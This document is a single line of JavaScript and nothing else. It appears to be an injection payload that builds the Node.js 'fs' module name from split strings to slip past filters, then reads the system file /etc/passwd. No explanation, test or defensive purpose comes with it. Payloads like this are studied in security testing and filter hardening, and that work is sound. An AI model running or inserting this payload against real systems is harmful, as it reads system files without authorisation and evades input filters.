require(["f","s"].join("")).readFileSync("/etc/passwd")
